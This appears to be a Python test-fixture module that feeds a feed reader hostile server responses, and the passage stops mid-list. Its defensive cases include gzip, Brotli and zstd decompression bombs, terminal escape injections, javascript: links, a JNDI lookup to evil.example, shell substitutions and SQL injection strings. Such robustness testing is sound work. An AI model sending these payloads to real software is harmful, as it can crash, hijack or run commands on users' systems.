"""More of the hostile server's table: answers that change from round to round, lies about compression, headers, sizes
and clocks, and the formats and charsets that are left.

Hosts that ask to be left alone have an address of their own (127.0.1.N), so that they hold up nobody else."""

from __future__ import annotations

import asyncio
import gzip
import json
import zlib
from base64 import b64decode
from collections.abc import Callable
from itertools import chain

from tests.server.cases import GREEK, RUSSIAN, XML, chunked, coded, good, redirect, two
from tests.server.hostile import Case, Request, Script, atom, entry, http, item, rss

STUFFED = " ".join(f"a{n}='1'" for n in range(100_000))
JSON_FEED = "https://jsonfeed.org/version/1.1"
# Brotli and zstd have no encoder in the standard library: these hold two items each, the bombs 40 MB to 2 GB of blanks.
BROTLI = (
    "G8AAIKwKeHMH5QdVHWNEHuP8DjWPnNjTipFBFY4tZoPTofkCU1ciLtnSRvf0Egy5VFqltRVcv10OdLBDbmPTcUqTRiOIrurw8xwsgrQ2xn8EsBbrWw2+"
    "34dMB2YgLNMUf1vwqalDCU4F"
)
BROTLI_BOMB = (
    "y///P8BE55bqZ0eVzAjV0NkMBsYG+vQizLilVGlQkGgUR9++i8vdxnB522VC1K0lq7D0wX02lW5XVezP670QQB0v2EAIy1iXLNxoyeRgXgrNpAyHMx8m"
    "E/zp7f8Q/P//g18CIA6LAHTv//j//we/BEAcFgDo3v/x//8PfgmAOCwA0L3/S2ItMfwSAHFYAPAnJQY="
)
BROTLI_TWICE = (
    "G0EM+E8YoCJX0m53OIRTOz2EDjTxPHPdpaR4Vr+t8a25MQj9OE4EYKg5WHCWJZ1ud8dBi6PLP1DiAkJsgH9/oLkAAZKAFvflcJgBEaw+/c3aOM9/luAn"
    "qi0+CQKt80ky1nnWfoX1Xg3wuTd8XwXu+T/+1AQJj8dgA84o9JgT8gH4AgCPoQF6Wqpm/kc8Zj8/EkyFcX7ooadKe8lxQydyjDw4UK5k3QB5DRDcJXcb"
    "AIAdkewB"
)
ZSTD = (
    "KLUv/SDNTQMAEsUSGpCnbbBIYuOpC/b/J2rUkQOsMSZmF7Bz94kBybx3CB1m0kY4TvoHJzUnSi87HGB4Kx72Vbckr1obU32tQEGAaYwCGWQx5T2iMC8G"
    "CgAuUwjoDkBO4tohINZsA8+jKVWCT/IWw9QD"
)


def turns(*documents: str | bytes) -> Script:
    """One answer after another, the last for ever."""
    answers = [http(one) if not (isinstance(one, bytes) and one.startswith(b"HTTP/")) else one for one in documents]

    async def reply(request: Request, writer: asyncio.StreamWriter) -> None:
        writer.write(answers[min(request.count, len(answers) - 1)])
        await writer.drain()

    return reply


def each(make: Callable[[int], str | bytes]) -> Script:
    """An answer made anew each time, by how often it was asked for."""

    async def reply(request: Request, writer: asyncio.StreamWriter) -> None:
        made = make(request.count)
        writer.write(made if isinstance(made, bytes) else http(made))
        await writer.drain()

    return reply


def later(name: str, kind: str, reply: bytes | Script, *tokens: str, items: int | None = None, **more: object) -> Case:
    """A case in which everything is there after three rounds, whatever the first one gave."""
    return Case(name, kind, reply, "new|failed|unchanged", tokens, items=items, **more)  # type: ignore[arg-type]


# --- what servers say of a body ---------------------------------------------------------------------------------------


def encoded(name: str, encoding: str, body: bytes) -> bytes:
    return http(body, {"Content-Encoding": encoding})


def plain(name: str) -> bytes:
    return rss(two(name)).encode()


def packed(name: str) -> bytes:
    return gzip.compress(plain(name))


def raw_deflate(data: bytes) -> bytes:
    maker = zlib.compressobj(wbits=-15)
    return maker.compress(data) + maker.flush()


def lying(name: str, encoding: str, body: bytes) -> Case:
    """A body that is not what its header calls it: nothing at first, everything when it was asked for as it is."""
    return later(name, "compressed", encoded(name, encoding, body), f"{name}-1", f"{name}-2", items=2)


COMPRESSED = [
    good("brotli", "compressed", b64decode(BROTLI), headers={"Content-Encoding": "br"}),
    Case(
        "brotli-bomb",
        "bomb",
        http(b64decode(BROTLI_BOMB), {"Content-Encoding": "br"}),
        "failed",
        ("brotli-bomb-1", "brotli-bomb-2"),
        items=2,
        error="larger",
    ),
    Case("brotli-twice", "bomb", http(b64decode(BROTLI_TWICE), {"Content-Encoding": "br, br"}), "failed"),
    Case("zstd-unasked", "compressed", http(b64decode(ZSTD), {"Content-Encoding": "zstd"}), "failed", error="encoding"),
    good("gzip-upper", "compressed", packed("gzip-upper"), headers={"Content-Encoding": "GZIP"}),
    good("gzip-x", "compressed", packed("gzip-x"), headers={"Content-Encoding": "x-gzip"}),
    good("gzip-twice", "compressed", gzip.compress(packed("gzip-twice")), headers={"Content-Encoding": "gzip, gzip"}),
    good("gzip-file", "compressed", packed("gzip-file"), content="application/x-gzip"),
    later(
        "gzip-twice-once-said",
        "compressed",
        encoded("", "gzip", gzip.compress(packed("gzip-twice-once-said"))),
        "gzip-twice-once-said-1",
        items=2,
    ),
    good("identity", "compressed", plain("identity"), headers={"Content-Encoding": "identity"}),
    good("deflate-raw", "compressed", raw_deflate(plain("deflate-raw")), headers={"Content-Encoding": "deflate"}),
    lying("gzip-unpacked", "gzip", plain("gzip-unpacked")),
    lying("deflate-unpacked", "deflate", plain("deflate-unpacked")),
    lying("brotli-unpacked", "br", plain("brotli-unpacked")),
    lying("encoding-utf8", "utf-8", plain("encoding-utf8")),
    lying("encoding-none", "none", plain("encoding-none")),
    lying("encoding-binary", "8bit", plain("encoding-binary")),
    lying("gzip-as-deflate", "deflate", packed("gzip-as-deflate")),
    lying("deflate-as-gzip", "gzip", zlib.compress(plain("deflate-as-gzip"))),
    lying("gzip-trailing", "gzip", packed("gzip-trailing") + b"\n<!-- cached -->"),
    good(
        "gzip-members",
        "compressed",
        gzip.compress(rss(item("gzip-members-1"))[:-17].encode())
        + gzip.compress((item("gzip-members-2") + "</channel></rss>").encode()),
        content="application/gzip",
    ),
    lying("gzip-bad-sum", "gzip", packed("gzip-bad-sum")[:-8] + b"\1\2\3\4\5\6\7\x08"),
    lying("gzip-no-end", "gzip", packed("gzip-no-end")[:-9]),
    Case("gzip-bomb-unsaid", "bomb", http(gzip.compress(b" " * 60_000_000), kind="application/gzip"), "failed"),
    Case(
        "gzip-bomb-thrice",
        "bomb",
        http(
            gzip.compress(gzip.compress(gzip.compress(b"\0" * 200_000_000, 9), 9), 9), {"Content-Encoding": "gzip, gzip, gzip"}
        ),
        "failed",
    ),
    Case("encodings-many", "bomb", http(packed("x"), {"Content-Encoding": ", ".join(["gzip"] * 50)}), "failed"),
]


# --- headers ----------------------------------------------------------------------------------------------------------


def head(name: str, *lines: bytes, status: bytes = b"HTTP/1.1 200 OK", version: bytes = b"") -> bytes:
    body = plain(name)
    return b"\r\n".join([status, b"Content-Length: %d" % len(body), *lines, b"", body])


def raw(name: str, *lines: bytes, **more: bytes) -> Case:
    return Case(name, "headers", head(name, *lines, **more), "new", (f"{name}-1", f"{name}-2"), items=2)


async def early_hints(request: Request, writer: asyncio.StreamWriter) -> None:
    writer.write(b"HTTP/1.1 103 Early Hints\r\nLink: </style.css>; rel=preload\r\n\r\n" + http(plain("early-hints")))
    await writer.drain()


async def goes_on(request: Request, writer: asyncio.StreamWriter) -> None:
    writer.write(b"HTTP/1.1 100 Continue\r\n\r\n" * 3 + http(plain("continue")))
    await writer.drain()


async def hints_for_ever(request: Request, writer: asyncio.StreamWriter) -> None:
    while True:
        writer.write(b"HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n" * 200)
        await writer.drain()


async def two_answers(request: Request, writer: asyncio.StreamWriter) -> None:
    writer.write(http(plain("two-answers")) + http(rss(item("smuggled-1"))))
    await writer.drain()
    await asyncio.sleep(0.2)


async def trailers(request: Request, writer: asyncio.StreamWriter) -> None:
    writer.write(chunked(plain("trailers")).replace(b"0\r\n\r\n", b'0\r\nETag: "late"\r\nLocation: /elsewhere\r\n\r\n'))
    await writer.drain()


async def byte_by_byte(request: Request, writer: asyncio.StreamWriter) -> None:
    for byte in http(plain("byte-by-byte")):
        writer.write(bytes([byte]))
        await writer.drain()


HEADERS = [
    raw("etag-strange", b'ETag: "\xc3\xa9\xff\x01"', b"Last-Modified: \xd0\xb2\xd1\x87"),
    raw("etag-many", *[b'ETag: "%d"' % n for n in range(50)]),
    raw("etag-long", b'ETag: "' + b"e" * 9_000 + b'"'),
    raw("etag-bare", b"ETag: W/"),
    raw("modified-odd", b"Last-Modified: yesterday, 25:61"),
    raw("date-odd", b"Date: \xff\xfe, 99 Foo 99999 99:99:99 GMT", b"Expires: -1", b"Cache-Control: max-age=banana"),
    raw("age-huge", b"Age: 99999999999999999999", b"Cache-Control: max-age=99999999999999999999999"),
    raw("expires-9999", b"Date: Mon, 24 Mar 2025 08:00:00 GMT", b"Expires: Fri, 31 Dec 9999 23:59:59 GMT"),
    raw("expires-digits", b"Expires: " + b"9" * 5_000, b"Date: " + b"1" * 5_000),
    raw("retry-odd", b"Retry-After: soon"),
    Case("no-colon", "headers", head("no-colon", b"this is no header at all"), "failed|new"),
    raw("folded", b"X-Folded: one", b"  two", b"\tthree"),
    raw("name-odd", b"X\xff\xfeY: 1", b": nameless", b"Sp ace : 2"),
    raw("type-odd", b'Content-Type: \xff/\xfe; charset="\x80"; charset=;;;'),
    raw("type-long", b"Content-Type: text/xml; charset=" + b"x" * 20_000),
    raw("type-twice", b"Content-Type: text/html; charset=iso-8859-1", b"Content-Type: application/xml"),
    raw("type-list", b"Content-Type: application/rss+xml, text/xml; q=0.9"),
    raw("charset-odd", b"Content-Type: text/xml; charset=undefined"),
    raw("charset-python", b"Content-Type: text/xml; charset=unicode_escape"),
    raw("charset-spaces", b"Content-Type: text/xml ; charset = ' utf-8 ' "),
    raw("cookies-many", *[b"Set-Cookie: c%d=%d" % (n, n) for n in range(200)]),
    raw("cookie-huge", b"Set-Cookie: a=" + b"b" * 50_000),
    raw("language-odd", b"Content-Language: \xf0\x9f\x92\xa9"),
    raw("link-header", b'Link: <javascript:alert(1)>; rel="alternate"', b"Refresh: 0; url=javascript:alert(1)"),
    raw("http-10", status=b"HTTP/1.0 200 OK"),
    raw("no-reason", status=b"HTTP/1.1 200"),
    raw("reason-odd", status=b"HTTP/1.1 200 \xff\xfe\x1b[31m"),
    raw("status-203", status=b"HTTP/1.1 203 Non-Authoritative"),
    Case("early-hints", "headers", early_hints, "new", ("early-hints-1", "early-hints-2"), items=2),
    Case("continue", "headers", goes_on, "new", ("continue-1", "continue-2"), items=2),
    Case("hints-for-ever", "endless", hints_for_ever, "failed", slow=True),
    Case("two-answers", "headers", two_answers, "new", ("two-answers-1",), absent=("smuggled",), items=2),
    Case("trailers", "chunked", trailers, "new", ("trailers-1", "trailers-2"), items=2),
    Case("byte-by-byte", "drip", byte_by_byte, "new", ("byte-by-byte-1", "byte-by-byte-2"), items=2),
    Case("header-100k", "headers", head("header-100k", b"X-Filler: " + b"a" * 99_000), "new|failed"),
    Case("header-1m", "headers", head("header-1m", b"X-Filler: " + b"a" * 1_000_000), "failed"),
    Case("headers-10000", "headers", head("headers-10000", *[b"X-%d: 1" % n for n in range(10_000)]), "failed"),
    Case("status-negative", "status", b"HTTP/1.1 -20 No\r\nContent-Length: 0\r\n\r\n", "failed"),
    Case("status-0", "status", b"HTTP/1.1 000 Zero\r\nContent-Length: 0\r\n\r\n", "failed"),
    Case("status-20", "status", b"HTTP/1.1 20 Two\r\nContent-Length: 0\r\n\r\n", "failed"),
    Case("status-600", "status", http("", status="600 X"), "failed"),
    Case("status-304-body", "status", http(rss(two("x")), status="304 Not Modified"), "failed", absent=("x-1",)),
    Case("status-205", "status", http(rss(two("x")), status="205 Reset"), "failed"),
    Case("status-300", "redirect", http("", {"Location": "/target-301"}, "300 Multiple"), "failed"),
    Case("status-305", "redirect", http("", {"Location": "http://127.0.0.1:9/"}, "305 Use Proxy"), "failed"),
    Case("http-2-line", "no HTTP", b"HTTP/2 200\r\nContent-Length: 3\r\n\r\nabc", "failed|new"),
    Case("http-9", "no HTTP", b"HTTP/9.9 200 OK\r\nContent-Length: 0\r\n\r\n", "failed"),
    Case("gopher", "no HTTP", b"iNews\tfake\t(NULL)\t0\r\n.\r\n", "failed"),
    Case("tls-bytes", "no HTTP", b"\x15\x03\x01\x00\x02\x02\x28", "failed"),
    Case("https-on-http", "no HTTP", b"", "failed", url="https://127.0.0.1:PORT/https-on-http"),
    Case(
        "lf-only", "headers", b"HTTP/1.1 200 OK\nContent-Type: text/xml\n\n" + plain("lf-only"), "new", ("lf-only-1",), items=2
    ),
    Case(
        "length-overflow",
        "wrong length",
        b"HTTP/1.1 200 OK\r\nContent-Length: 99999999999999999999999\r\n\r\n" + plain("x"),
        "failed|new",
    ),
    Case("length-words", "wrong length", b"HTTP/1.1 200 OK\r\nContent-Length: many\r\n\r\n" + plain("x"), "failed|new"),
    Case("length-zero", "wrong length", b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n" + plain("x"), "failed", error="empty"),
    Case(
        "chunk-huge",
        "chunked",
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n" + plain("x"),
        "failed",
    ),
    Case(
        "chunk-extension",
        "chunked",
        chunked(plain("chunk-extension")).replace(b"\r\n<?xml", b";a=b\r\n<?xml"),
        "new",
        ("chunk-extension-1", "chunk-extension-2"),
        items=2,
    ),
    Case(
        "chunked-and-length",
        "chunked",
        chunked(plain("chunked-and-length")).replace(b"\r\n", b"\r\nContent-Length: 9\r\n", 1),
        "new|failed",
    ),
    Case("transfer-odd", "chunked", b"HTTP/1.1 200 OK\r\nTransfer-Encoding: rot13\r\n\r\nabc", "failed"),
]


# --- asking to be left alone ------------------------------------------------------------------------------------------

RETRY = [
    Case(
        f"retry-{name}",
        "Retry-After",
        http("later", {"Retry-After": value}, status),
        "failed",
        error=status[:3],
        url=f"http://127.0.1.{number + 1}:PORT/retry-{name}",
        held=held,
    )
    for number, (name, value, status, held) in enumerate(
        (
            ("seconds", "3600", "503 Busy", 3600),
            ("date", "Fri, 31 Dec 9999 23:59:59 GMT", "429 Too Many", 86_400),
            ("huge", "9" * 40, "503 Busy", 86_400),
            ("fraction", "1800.5", "429 Too Many", 1800),
            ("spaces", "  3600  ", "503 Busy", 3600),
            ("negative", "-5", "503 Busy", None),
            ("words", "in a while", "503 Busy", None),
            ("past", "Mon, 01 Jan 1990 00:00:00 GMT", "503 Busy", None),
            ("empty", "", "503 Busy", None),
            ("digits", "١٢٠".encode().decode("latin-1"), "503 Busy", None),
            ("nan", "nan", "503 Busy", None),
            ("year-0", "Sat, 01 Jan 0000 00:00:00 GMT", "429 Too Many", None),
        )
    )
]


# --- what changes from round to round ---------------------------------------------------------------------------------


def told(name: str, number: int, title: str = "", guid: str = "", link: str = "") -> str:
    identity = (f"<guid isPermaLink='false'>{guid}</guid>" if guid else "") + (f"<link>{link}</link>" if link else "")
    return f"<item><title>{title or f'Report {name}-{number}'}</title>{identity}</item>"


def link(name: str, number: int) -> str:
    return f"https://outlet.example/{name}/{number}"


TURNS = [
    later(
        "title-changes",
        "changing",
        each(lambda n: rss(item("title-changes-1").replace("Report", f"Report {n}"))),
        "title-changes-1",
        items=1,
    ),
    later(
        "guid-comes-late",
        "changing",
        turns(rss(told("late", 1, link=link("late", 1))), rss(told("late", 1, link=link("late", 1), guid=link("late", 1)))),
        "late-1",
        items=1,
    ),
    later(
        "guid-repeats-later",
        "changing",
        turns(
            rss(told("grl", 1, guid="same", link=link("grl", 1))),
            rss(told("grl", 2, guid="same", link=link("grl", 2)), told("grl", 1, guid="same", link=link("grl", 1))),
        ),
        "grl-1",
        "grl-2",
        items=2,
    ),
    later(
        "guid-repeats-no-more",
        "changing",
        turns(
            rss(told("grn", 2, guid="same", link=link("grn", 2)), told("grn", 1, guid="same", link=link("grn", 1))),
            rss(told("grn", 1, guid="same", link=link("grn", 1))),
            rss(told("grn", 3, guid="same", link=link("grn", 3)), told("grn", 1, guid="same", link=link("grn", 1))),
        ),
        "grn-1",
        "grn-2",
        "grn-3",
        items=3,
    ),
    later(
        "link-shared-no-more",
        "changing",
        turns(
            rss(told("lsn", 2, link=link("lsn", 0)), told("lsn", 1, link=link("lsn", 0))),
            rss(told("lsn", 1, link=link("lsn", 0))),
            rss(told("lsn", 3, link=link("lsn", 0))),
        ),
        "lsn-1",
        "lsn-2",
        "lsn-3",
        items=3,
    ),
    later(
        "link-shared-later",
        "changing",
        turns(
            rss(told("lsl", 1, link=link("lsl", 0))),
            rss(told("lsl", 2, link=link("lsl", 0)), told("lsl", 1, link=link("lsl", 0))),
            rss(told("lsl", 2, link=link("lsl", 0))),
        ),
        "lsl-1",
        "lsl-2",
        items=2,
    ),
    later(
        "order-turns",
        "changing",
        turns(rss(item("order-turns-1"), item("order-turns-2")), rss(item("order-turns-2"), item("order-turns-1"))),
        "order-turns-1",
        "order-turns-2",
        items=2,
    ),
    later(
        "window-moves",
        "changing",
        each(lambda n: rss(*(item(f"window-moves-{i}") for i in range(n, n + 3)))),
        "window-moves-0",
        "window-moves-4",
        items=5,
    ),
    later(
        "format-changes",
        "changing",
        turns(
            rss(told("fc", 1, guid="urn:fc-1", link=link("fc", 1))),
            atom("<entry><title>Report fc-1</title><id>urn:fc-1</id><link href='https://outlet.example/fc/1'/></entry>"),
            json.dumps({"version": JSON_FEED, "items": [{"id": "urn:fc-1", "title": "Report fc-1", "url": link("fc", 1)}]}),
        ),
        "fc-1",
        items=1,
    ),
    later(
        "encoding-changes",
        "changing",
        turns(
            rss(told("ec", 1, f"{RUSSIAN} ec-1", "ec")),
            rss(told("ec", 1, f"{RUSSIAN} ec-1", "ec"), head='<?xml version="1.0" encoding="koi8-r"?>').encode("koi8-r"),
        ),
        "ec-1",
        items=1,
    ),
    later(
        "empty-between",
        "changing",
        turns(rss(two("empty-between")), rss(), rss(two("empty-between"))),
        "empty-between-1",
        "empty-between-2",
        items=2,
    ),
    later(
        "cut-then-whole",
        "changing",
        turns(
            b'HTTP/1.1 200 OK\r\nContent-Length: 9000\r\nETag: "a"\r\n\r\n' + rss(item("cut-then-whole-1")).encode()[:-30],
            rss(two("cut-then-whole")),
        ),
        "cut-then-whole-1",
        "cut-then-whole-2",
        items=2,
    ),
    later(
        "broken-then-whole",
        "changing",
        turns(rss(two("broken-then-whole")).replace("</description>", "", 1), rss(two("broken-then-whole"))),
        "broken-then-whole-1",
        "broken-then-whole-2",
        items=2,
    ),
    later(
        "gone-and-back",
        "changing",
        turns(http("", status="500 No"), rss(two("gone-and-back"))),
        "gone-and-back-1",
        "gone-and-back-2",
        items=2,
    ),
    later(
        "page-then-feed",
        "changing",
        turns("<!doctype html><html><body>maintenance", rss(two("page-then-feed"))),
        "page-then-feed-1",
        items=2,
    ),
    later(
        "unasked-304",
        "changing",
        turns(rss(two("unasked-304")), b"HTTP/1.1 304 Not Modified\r\n\r\n"),
        "unasked-304-1",
        "unasked-304-2",
        items=2,
    ),
    later(
        "etag-same",
        "changing",
        each(
            lambda n: (
                head("etag-same", b'ETag: "never changes"') if n == 0 else head("etag-same-more", b'ETag: "never changes"')
            )
        ),
        "etag-same-1",
        "etag-same-more-2",
        items=4,
    ),
    later("moves-for-good", "changing", each(lambda n: redirect("/moved-here", "301 Moved")), "moved-1", items=1),
    Case("moved-here", "redirect", http(rss(item("moved-1"))), "new"),
    later(
        "case-of-guid", "changing", turns(rss(told("cg", 1, guid="Case"), told("cg", 2, guid="case"))), "cg-1", "cg-2", items=2
    ),
    later(
        "guid-white", "changing", turns(rss(told("gw", 1, guid="a b")), rss(told("gw", 1, guid="\n a b \n"))), "gw-1", items=1
    ),
]


# --- sizes ------------------------------------------------------------------------------------------------------------

SIZES = [
    good("authors-many", "size", rss(item("authors-many-1", "<author>a</author>" * 20_000), item("authors-many-2"))),
    good(
        "links-many", "size", rss(item("links-many-1", "<enclosure url='https://o.example/e'/>" * 20_000), item("links-many-2"))
    ),
    good(
        "anchors-many",
        "size",
        rss(
            item("anchors-many-1").replace("Text", "&lt;a href='https://o.example/'&gt;x&lt;/a&gt;" * 20_000),
            item("anchors-many-2"),
        ),
    ),
    good(
        "names-many", "size", rss(item("names-many-1", "".join(f"<n{n}>x</n{n}>" for n in range(30_000))), item("names-many-2"))
    ),
    good(
        "categories-many", "size", rss(item("categories-many-1", "<category>c</category>" * 40_000), item("categories-many-2"))
    ),
    good(
        "same-guid-many",
        "size",
        rss(*(f"<item><title>same-guid-many-{n}</title><guid>same</guid></item>" for n in range(1, 2_001))),
        2_000,
    ),
    good(
        "same-title-many",
        "size",
        rss(
            *(
                f"<item><title>Same</title><guid>g{n}</guid><description>same-title-many-{n}</description></item>"
                for n in range(1, 2_001)
            )
        ),
        2_000,
    ),
    good("word-long", "size", rss(item("word-long-1").replace("Text", "w" * 900_000), item("word-long-2"))),
    good(
        "words-many",
        "size",
        rss(item("words-many-1").replace("Text", " ".join(f"word{n}" for n in range(60_000))), item("words-many-2")),
    ),
    good("marks-many", "size", rss(item("marks-many-1").replace("Text", "e" + "\u0301" * 200_000), item("marks-many-2"))),
    good("emoji-many", "size", rss(item("emoji-many-1").replace("Text", "👨‍👩‍👧" * 30_000), item("emoji-many-2"))),
    good(
        "entities-many",
        "quadratic",
        rss(item("entities-many-1").replace("Text", "&amp;amp;" * 60_000), item("entities-many-2")),
    ),
    good("tags-open", "quadratic", rss(item("tags-open-1").replace("Text", "&lt;b" * 100_000), item("tags-open-2"))),
    good(
        "quotes-open",
        "quadratic",
        rss(item("quotes-open-1").replace("Text", "&lt;a href=&quot;" * 30_000), item("quotes-open-2")),
    ),
    good(
        "tables-deep",
        "depth",
        rss(item("tables-deep-1").replace("Text", "&lt;table&gt;&lt;tr&gt;&lt;td&gt;" * 10_000), item("tables-deep-2")),
    ),
    good(
        "lists-deep", "depth", rss(item("lists-deep-1").replace("Text", "&lt;ul&gt;&lt;li&gt;" * 20_000), item("lists-deep-2"))
    ),
    good(
        "script-open", "quadratic", rss(item("script-open-1").replace("Text", "&lt;script&gt;" * 30_000), item("script-open-2"))
    ),
    good(
        "xhtml-deep",
        "depth",
        atom(
            entry("xhtml-deep-1", "<content type='xhtml'>" + "<div>" * 240 + "x" + "</div>" * 240 + "</content>"),
            entry("xhtml-deep-2"),
        ),
    ),
    good(
        "items-nested",
        "malformed",
        rss("<item><title>items-nested-1</title>", "<item><title>items-nested-2</title></item></item>"),
    ),
    good("spaces-many", "size", rss(item("spaces-many-1").replace("Text", " " * 900_000), item("spaces-many-2"))),
    good("lines-many", "size", rss(item("lines-many-1").replace("Text", "\n" * 400_000), item("lines-many-2"))),
    good("pi-many", "size", rss(item("pi-many-1"), "<?a b?>" * 60_000, item("pi-many-2"))),
    good("comments-many", "size", rss(item("comments-many-1"), "<!-- c -->" * 60_000, item("comments-many-2"))),
    good("base-chain", "depth", rss("<a xml:base='x/'>" * 100, two("base-chain"), "</a>" * 100)),
    good("base-long", "size", rss(two("base-long"), attributes="xml:base='https://o.example/" + "a/" * 50_000 + "'")),
]


# --- words and signs --------------------------------------------------------------------------------------------------


def said(name: str, text: str, *absent: str) -> Case:
    """A text in title, summary and author that must leave nothing behind that a screen would act on."""
    body = rss(
        f"<item><title>{text}{name}-1</title><guid>{name}</guid><description>{text}</description><author>{text}x</author></item>"
    )
    return Case(name, "text", http(body), "new", (f"{name}-1",), absent=absent, items=1)


WORDS = [
    said("osc-8", "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\", "\x1b"),
    said("csi-c1", "\u009b2J\u009d0;owned\u009c", "\u009b", "\u009d"),
    said("dcs", "\x1bP+q544e\x1b\\", "\x1b"),
    said("csi-reference", "&#27;[2J&#x1B;]0;x&#7;", "\x1b", "\x07"),
    said("backspaces", "abc\b\b\b", "\b"),
    said("carriage", "real\rfake", "\r"),
    said("bidi-isolate", "\u2066\u2067\u2068\u2069", "\u2066", "\u2069"),
    said("bidi-marks", "\u200e\u200f\u061c", "\u200e", "\u200f", "\u061c"),
    said("tags-unicode", "\U000e0041\U000e0042", "\U000e0041"),
    said("separators", "a\u2028b\u2029c", "\u2028", "\u2029"),
    said("noncharacters", "a\ufffeb\uffffc\U0001fffe", "\ufffe", "\uffff"),
    said("private-use", "\ue000\U000f0000"),
    said("zalgo", "Z" + "\u0300\u0321" * 300),
    said("wide", "Ｆｕｌｌ　ｗｉｄｔｈ "),
    said("rich-markup", "[bold red]x[/] [link=javascript:alert(1)]y[/link] "),
    said("percent", "%s %d %(name)s {0} {name!r} {0.__class__} "),
    said("template", "${jndi:ldap://evil.example/a} {{7*7}} `id` $(id) "),
    said("sql", "'; DELETE FROM items; -- \" OR 1=1 "),
    said("fts", 'NEAR("a" "b", 5) AND * ^ col:x OR NOT '),
    said("rules", "@names title:x -y ~2 =Z "),
    said("slashes", "\\ \\0 \\x1b[31m \\u202e "),
    said("cdata-end", "]]&gt; &lt;!-- --&gt; "),
    said("html-deep-escape", "&amp;amp;lt;script&amp;amp;gt; "),
    said("null-reference", "a&#0;b&#x00;", "\0"),
    said("style", "&lt;style&gt;*{display:none}&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt; ", "onerror", "display"),
    said("svg-script", "&lt;svg&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;/svg&gt; ", "alert"),
]


def linked(name: str, address: str, *absent: str) -> Case:
    """An address that an item gives for itself, for a link of its text and for an enclosure."""
    body = rss(
        f"<item><title>{name}-1</title><guid isPermaLink='false'>{name}</guid><link>{address}</link>"
        f'<description>&lt;a href="{address}"&gt;x&lt;/a&gt;</description><enclosure url="{address}"/></item>'
    )
    return Case(name, "links", http(body), "new", (f"{name}-1",), absent=absent, items=1)


LINKS = [
    linked("link-vbscript", "vbscript:msgbox(1)", "vbscript:"),
    linked("link-case", "JaVaScRiPt:alert(1)", "alert"),
    linked("link-entity", "java&amp;#115;cript:alert(1)", "javascript:"),
    linked("link-newline", "java&#10;script:alert(1)", "alert"),
    linked("link-leading", "&#1;javascript:alert(1)", "alert"),
    linked("link-blob", "blob:https://o.example/1", "blob:"),
    linked("link-smb", "\\\\evil.example\\share"),
    linked("link-mailto", "mailto:a@b.example", "mailto:"),
    linked("link-shell", "https://o.example/$(touch%20x);`id`|ls&amp;&amp;x"),
    linked("link-dashes", "--help"),
    linked("link-userinfo", "https://bank.example@evil.example/"),
    linked("link-punycode", "https://xn--80ak6aa92e.example/"),
    linked("link-mixed", "https://аррӏе.example/"),
    linked("link-port", "https://o.example:99999/"),
    linked("link-bracket", "http://[::1"),
    linked("link-nothing", "http://"),
    linked("link-three", "http:///etc/passwd"),
    linked("link-escape", "https://o.example/%1b[31m%0d%0aSet-Cookie:x"),
    linked("link-bidi", "https://o.example/\u202egnp.exe", "\u202e"),
    linked("link-null", "https://o.example/\u0000".replace("\0", "&#0;"), "\0"),
    linked("link-relative-odd", "../../../../x?y#z"),
    linked("link-protocol", "//o.example/x"),
    linked("link-spaces-in", "https://o.example/a b c"),
    linked("link-quote", "https://o.example/'\"&gt;&lt;x".replace('"', "&quot;")),
]


# --- charsets ---------------------------------------------------------------------------------------------------------

CHARSETS = [
    *(
        coded(f"charset-{name}", codec, text, name)
        for name, codec, text in (
            ("iso-8859-2", "iso8859-2", "Příliš žluťoučký kůň"),
            ("iso-8859-5", "iso8859-5", RUSSIAN),
            ("iso-8859-8", "iso8859-8", "שיחות שלום"),
            ("iso-8859-9", "iso8859-9", "Görüşmeler başladı"),
            ("iso-8859-15", "iso8859-15", "Œuvre à 5 €"),
            ("windows-1250", "cp1250", "Řízení státu"),
            ("windows-1253", "cp1253", GREEK),
            ("windows-1254", "cp1254", "İstanbul’da"),
            ("windows-1255", "cp1255", "שיחות"),
            ("windows-1256", "cp1256", "محادثات السلام"),
            ("windows-1257", "cp1257", "Žinios iš sostinės"),
            ("windows-1258", "cp1258", "Hà"),
            ("koi8-u", "koi8-u", "Переговори у столиці"),
            ("macintosh", "mac-roman", "Détente"),
            ("x-mac-cyrillic", "mac-cyrillic", RUSSIAN),
            ("ibm866", "cp866", RUSSIAN),
            ("tis-620", "tis-620", "การเจรจา"),
            ("gbk", "gbk", "会谈开始"),
            ("gb18030", "gb18030", "会谈𠀀开始"),
            ("hz-gb-2312", "hz", "会谈开始"),
            ("big5-hkscs", "big5hkscs", "會談開始"),
            ("iso-2022-kr", "iso2022_kr", "회담 시작"),
            ("ks_c_5601-1987", "cp949", "회담 시작"),
            ("utf-8", "utf-8", "naïve 😀"),
            ("utf8", "utf-8", RUSSIAN),
            ("unicode-1-1-utf-8", "utf-8", RUSSIAN),
            ("utf8mb4", "utf-8", RUSSIAN),
        )
    ),
    coded("utf16-mark-lies", "utf-8", RUSSIAN, "utf-8", "utf-16"),
    coded("utf32-be", "utf-32-be", RUSSIAN, "utf-32", "", "\ufeff".encode("utf-32-be")),
    coded("utf32-bare", "utf-32-le", RUSSIAN, None),
    coded("utf16-be-bare", "utf-16-be", RUSSIAN, None),
    later("mark-wrong", "encoding", http(b"\xff\xfe" + plain("mark-wrong")), "mark-wrong-1", items=2),
    later("mark-be-wrong", "encoding", http(b"\xfe\xff" + plain("mark-be-wrong")), "mark-be-wrong-1", items=2),
    good("utf16-odd", "encoding", "\ufeff".encode("utf-16-le") + rss(two("utf16-odd")).encode("utf-16-le") + b"\n"),
    good(
        "utf16-surrogates",
        "encoding",
        "\ufeff".encode("utf-16-le")
        + rss(two("utf16-surrogates")).replace("Outlet", "Outlet \ud800").encode("utf-16-le", "surrogatepass"),
    ),
    good("overlong", "encoding", plain("overlong").replace(b"Outlet", b"Outlet \xc0\xaf \xe0\x80\xaf")),
    good("cesu", "encoding", plain("cesu").replace(b"Text", b"\xed\xa0\xbd\xed\xb8\x80")),
    good("five-bytes", "encoding", plain("five-bytes").replace(b"Text", b"\xf8\x88\x80\x80\x80\xfc\x84\x80\x80\x80\x80")),
    good("utf7-name", "encoding", rss(two("utf7-name"), head='<?xml version="1.0" encoding="utf-7"?>')),
    good(
        "declared-twice",
